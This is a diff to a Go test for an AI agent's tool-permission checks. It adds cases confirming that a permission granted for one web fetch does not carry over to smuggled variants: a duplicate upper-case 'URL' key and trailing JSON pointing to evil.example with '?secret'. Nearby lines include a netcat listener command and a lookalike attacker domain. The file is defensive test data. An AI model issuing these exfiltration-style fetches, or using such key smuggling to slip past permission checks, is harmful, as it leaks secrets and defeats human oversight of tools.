@@ -50,6 +50,8 @@ func TestAlwaysHoldsForWhatWasAllowed(t *testing.T) {
 		{name: "another process", allowed: ask("", "process", "d", `{"action":"start","command":"serve it"}`), asked: ask("", "process", "d", `{"action":"start","command":"nc -l 1"}`)},
 		{name: "another page of the site", allowed: ask("", "webfetch", "d", `{"url":"https://go.dev/a"}`), asked: ask("", "webfetch", "d", `{"url":"https://go.dev/b?x=1"}`), want: true},
 		{name: "another site", allowed: ask("", "webfetch", "d", `{"url":"https://go.dev.example/a"}`), asked: ask("", "webfetch", "d", `{"url":"https://go.dev.example.evil/?secret"}`)},
+		{name: "another site in other letters", allowed: ask("", "webfetch", "d", `{"url":"https://a.example/"}`), asked: ask("", "webfetch", "d", `{"url":"https://a.example/","URL":"https://evil.example/?secret"}`)},
+		{name: "what is no address", allowed: ask("", "webfetch", "d", `{"url":"https://x.example/"} {}`), asked: ask("", "webfetch", "d", `{"url":"https://evil.example/"} {}`)},
 		{name: "a tool that nobody lists", allowed: agent.Ask{Call: toolbox.Call{Name: "git__new"}}, asked: agent.Ask{Call: toolbox.Call{Name: "git__new"}}, failing: true},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
